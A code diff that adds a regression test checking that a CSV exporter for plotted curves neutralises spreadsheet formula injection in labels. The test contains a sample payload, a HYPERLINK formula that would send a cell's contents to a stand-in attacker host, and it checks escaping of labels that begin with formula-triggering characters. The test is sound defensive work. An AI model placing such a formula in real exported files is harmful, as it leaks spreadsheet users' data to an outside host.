@@ -46,6 +46,14 @@ def test_the_numbers_of_a_figure_are_a_row_for_every_place() -> None:
     )
 
 
+def test_repro_a_label_could_be_a_formula_in_a_spreadsheet() -> None:
+    evil = '=HYPERLINK("https://evil.example/?"&A2,"open")'
+    names = next(csv.reader(io.StringIO(_figure(Curve(evil, [1], [2]), Curve("a=b", [1], [3])).csv())))
+    assert names == ["round", f"'{evil}", "a=b"]
+    for first in "=+-@\t\r":
+        assert _figure(Curve(f"{first}x", [1], [2])).csv().partition(",")[2].lstrip('"').startswith("'")
+
+
 def test_a_curve_that_stands_twice_at_a_place_has_two_rows() -> None:
     assert _figure(Curve("a", [1, 1, 2], [5, 6, 7])).csv() == "round,a\n1,5\n1,6\n2,7\n"
 
